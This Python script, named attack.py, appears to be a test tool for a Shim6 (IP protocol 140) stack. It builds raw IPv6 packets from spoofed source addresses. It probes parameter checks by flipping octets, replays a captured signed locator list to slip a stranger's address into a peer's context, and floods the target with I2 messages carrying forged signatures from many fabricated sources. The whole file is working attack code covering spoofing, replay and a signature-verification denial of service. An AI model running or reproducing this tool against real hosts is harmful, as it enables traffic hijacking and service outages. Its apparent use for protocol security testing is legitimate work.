#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""An initiator that lies: protocol 140 by hand, in a namespace without Shim6.

Usage: attack.py set-up VICTIM FILE [OPTION...]
       attack.py replay VICTIM FILE --key PEM --stranger ADDRESS
       attack.py addresses VICTIM FILE --sources N
       attack.py flood VICTIM FILE --sources N --seconds N --stranger ADDRESS

FILE is a parameter file of shim6ctl: own addresses, the first one is the ULID,
and their parameters.

"set-up" sends I1, and with what the R1 brought one I2, or one for each octet to
--flip in the parameters. A line for each says what came back: "R2", "Error CODE
LOCATOR", where LOCATOR is the place in the list that the pointer means, or
"nothing".

"replay" sets up a context, tells a signed list and a newer one without the
stranger, then the first one again, octet by octet, and says what came back.

"flood" makes up owners of addresses, with parameters of their own that fit.
Each does I1 and R1, then they send I2 with wrong signatures, no two alike, as fast
as they can.
"addresses" shows which addresses that takes.
"""
import argparse
import base64
import hashlib
import ipaddress
import os
import re
import socket
import struct
import subprocess
import sys
import time

from wire import control, packed

I1, R1, I2, R2, UPDATE, UPDATE_ACK, ERROR = 1, 2, 3, 4, 64, 65, 68
VALIDATOR, LIST, PDS, SIGNATURE, ULID_PAIR = 1, 2, 4, 5, 6
HBA, CGA = 1, 2
TYPE_TAG = bytes.fromhex("4a3056624858574b3655416f506a6d48")
OTHER_TAG = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
SIGNATURE_LEN = 256
GENERATION = 7
FIXED_LEN = {I1: 16, R1: 16, I2: 24, UPDATE: 16}
IPV6_LEN = 40


def option(kind, contents):
    data = struct.pack("!HH", kind * 2, len(contents)) + contents
    return data + bytes(-len(data) % 8)


def options(data, kind):
    """Type and contents of each option of a message of that kind."""
    at = FIXED_LEN[kind]
    while at + 4 <= len(data):
        number, size = struct.unpack_from("!HH", data, at)
        yield number >> 1, data[at + 4:at + 4 + size]
        at += (size + 11) & ~7


class Locators:
    """A Locator List: pairs of address and method."""

    def __init__(self, pairs, generation=GENERATION):
        self.pairs, self.generation = pairs, generation

    def option(self):
        n = len(self.pairs)
        contents = struct.pack("!IB", self.generation, n)
        contents += bytes(method for _, method in self.pairs)
        contents += bytes(7 - n % 8)
        return option(LIST, contents +
                      b"".join(packed(address) for address, _ in self.pairs))

    def signed_octets(self, tag):
        return (tag + struct.pack("!I", self.generation) +
                b"".join(packed(address) for address, method in self.pairs
                         if method == CGA))


def genuine(octets, key):
    return subprocess.run(["openssl", "dgst", "-sha1", "-sign", key],
                          input=octets, stdout=subprocess.PIPE,
                          check=True).stdout


def made_up():
    """Of the right length and below the modulus, as real ones are."""
    return b"\0" + os.urandom(SIGNATURE_LEN - 5) + renewed(0)


def renewed(number):
    """The end of a made-up signature; the checksum is the same for each."""
    return struct.pack("!HH", number & 0xffff, 0xffff - (number & 0xffff))


def signature(locators, how, key):
    if how == "made-up":
        return option(SIGNATURE, made_up())
    tag = OTHER_TAG if how == "other-tag" else TYPE_TAG
    return option(SIGNATURE, genuine(locators.signed_octets(tag), key))


class Parameters:
    """What a file of shim6ctl says."""

    def __init__(self, path):
        with open(path, encoding="ascii") as lines:
            text = lines.read()
        self.addresses = re.findall(r"^Address: (\S+)$", text, re.M)
        self.pds = base64.b64decode(
            re.search(r"\n\n([A-Za-z0-9+/=\n]+)-----END", text).group(1))

    def made_of(self, number):
        """Another set of parameters with the same key, and its address."""
        pds = number.to_bytes(16, "big") + self.pds[16:24]
        pds += b"\0" + self.pds[25:]
        iid = bytearray(hashlib.sha1(pds).digest()[:8])
        iid[0] &= 0x1c
        return pds, str(ipaddress.IPv6Address(pds[16:24] + bytes(iid)))


class Initiator:
    """One ULID, one tag; messages leave from the source."""

    def __init__(self, wire, source, victim, ulid=None):
        self.wire, self.source, self.victim = wire, source, victim
        self.tag = os.urandom(6)
        self.tag = bytes([self.tag[0] & 0x7f]) + self.tag[1:]
        self.nonce = os.urandom(4)
        self.pair = b""
        if ulid and ulid != source:
            self.pair = option(ULID_PAIR, bytes(4) + packed(ulid) +
                               packed(victim))
        self.responder = self.validator = None

    def send(self, data):
        self.wire.send(self.source, self.victim, data)

    def send_i1(self):
        self.send(control(I1, self.tag + self.nonce + self.pair))

    def take_r1(self, data):
        self.responder = data[12:16]
        self.validator = dict(options(data, R1))[VALIDATOR]

    def begin(self):
        self.send_i1()
        data = self.wire.await_message(
            lambda data: data[2] == R1 and data[8:12] == self.nonce, 10)
        if not data:
            sys.exit("no R1")
        self.take_r1(data)

    def i2(self, more, nonce):
        return control(I2, self.tag + nonce + self.responder + bytes(4) +
                       option(VALIDATOR, self.validator) + self.pair + more)

    def ask(self, more, wait):
        """Send an I2; what comes back, an R2 or an Error about it."""
        nonce = os.urandom(4)
        self.send(self.i2(more, nonce))
        quoted = slice(8 + IPV6_LEN + 12, 8 + IPV6_LEN + 16)
        return self.wire.await_message(
            lambda data: (data[2] == R2 and data[12:16] == nonce) or
            (data[2] == ERROR and data[quoted] == nonce), wait)


class Wire:
    """Protocol 140, and any source."""

    def __init__(self):
        self.out = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
                                 socket.IPPROTO_RAW)
        self.come_in = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 140)
        self.come_in.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)

    def send(self, src, dst, data):
        head = struct.pack("!IHBB", 6 << 28, len(data), 140, 64)
        self.out.sendto(head + packed(src) + packed(dst) + data, (dst, 0))

    def messages(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.come_in.settimeout(max(end - time.monotonic(), 0.001))
            try:
                data = self.come_in.recv(2048)
            except socket.timeout:
                return
            if len(data) >= 16:
                yield data

    def await_message(self, fits, seconds):
        for data in self.messages(seconds):
            if fits(data):
                return data
        return None


def said(data):
    """In words."""
    if not data:
        return "nothing"
    if data[2] == R2:
        return "R2"
    if data[2] == UPDATE_ACK:
        return "acknowledged"
    code, pointer = data[3] >> 1, int.from_bytes(data[6:8], "big")
    message = data[8 + IPV6_LEN:]
    at = FIXED_LEN[message[2]]
    while at + 4 <= len(message):
        number, size = struct.unpack_from("!HH", message, at)
        if number >> 1 == LIST:
            return f"Error {code} {pointer - IPV6_LEN - at - 4 - 5}"
        at += (size + 11) & ~7
    return f"Error {code}"


def tell(data):
    print(said(data), flush=True)


def pairs_of(words):
    """ADDRESS=hba, ADDRESS=cga"""
    pairs = [word.split("=") for word in words]
    return [(address, {"hba": HBA, "cga": CGA}[method])
            for address, method in pairs]


def flipped(pds, place):
    octets = bytearray(pds)
    octets[place] ^= 1
    return bytes(octets)


def set_up(args, params):
    source = params.addresses[0]
    peer = Initiator(Wire(), source, args.victim, args.ulid)
    peer.begin()
    more = b""
    if args.list:
        locators = Locators(pairs_of(args.list))
        more = locators.option()
        if args.sign:
            more += signature(locators, args.sign, args.key)
    if not args.flip:
        pds = option(PDS, params.pds) if args.list else b""
        tell(peer.ask(more + pds, args.wait))
    for place in args.flip:
        pds = option(PDS, flipped(params.pds, place))
        tell(peer.ask(more + pds, args.wait))


def replay(args, params):
    own = [(address, HBA) for address in params.addresses]
    peer = Initiator(Wire(), params.addresses[0], args.victim)
    peer.begin()
    answer = peer.ask(Locators(own).option() + option(PDS, params.pds), 10)
    tell(answer)
    first = Locators(own + [(args.stranger, CGA)], GENERATION + 1)
    second = Locators(own, GENERATION + 2)
    tag = answer[6:12]

    def update(nonce, more):
        peer.send(control(UPDATE, tag + nonce + more))
        tell(peer.wire.await_message(
            lambda data: data[2] == UPDATE_ACK and data[12:16] == nonce,
            args.wait))

    captured = first.option() + signature(first, "genuine", args.key)
    update(b"1st.", captured)
    update(b"2nd.", second.option())
    for nonce in (b"1st.", b"new."):
        update(nonce, captured)


def flood_messages(args, params, wire):
    """An I2 of each source, and from whom it leaves."""
    peers = {}
    for number in range(args.sources):
        pds, address = params.made_of(number)
        peer = Initiator(wire, address, args.victim)
        peers[peer.nonce] = (peer, pds)
        peer.send_i1()
        time.sleep(0.002)
    for data in wire.messages(3):
        if data[2] == R1 and data[8:12] in peers:
            peers[data[8:12]][0].take_r1(data)
        if all(peer.validator for peer, _ in peers.values()):
            break
    for peer, pds in peers.values():
        if not peer.validator:
            continue
        locators = Locators([(peer.source, HBA), (args.stranger, CGA)])
        wrong = made_up()
        data = peer.i2(locators.option() + option(PDS, pds) +
                       option(SIGNATURE, wrong), os.urandom(4))
        end = data.index(wrong) + len(wrong)
        yield peer, data[:end - 4], data[end:]


def flood(args, params):
    wire = Wire()
    messages = list(flood_messages(args, params, wire))
    print(len(messages), "sources", flush=True)
    sent, begun = 0, time.monotonic()
    while time.monotonic() < begun + args.seconds:
        for peer, head, tail in messages:
            try:
                peer.send(head + renewed(sent) + tail)
                sent += 1
            except OSError:
                pass
    print(sent, "sent", flush=True)


def addresses(args, params):
    for number in range(args.sources):
        print(params.made_of(number)[1])


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what",
                        choices=["set-up", "replay", "addresses", "flood"])
    parser.add_argument("victim")
    parser.add_argument("file")
    parser.add_argument("--list", nargs="+", default=[],
                        metavar="ADDRESS=hba|cga")
    parser.add_argument("--ulid")
    parser.add_argument("--sign", choices=["made-up", "other-tag", "genuine"])
    parser.add_argument("--key", help="private key, for openssl")
    parser.add_argument("--flip", nargs="+", type=int, default=[],
                        help="places in the parameters")
    parser.add_argument("--wait", type=float, default=1,
                        help="seconds for an answer")
    parser.add_argument("--stranger")
    parser.add_argument("--sources", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=5)
    args = parser.parse_args()
    {"set-up": set_up, "replay": replay, "addresses": addresses,
     "flood": flood}[args.what](args, Parameters(args.file))


if __name__ == "__main__":
    main()
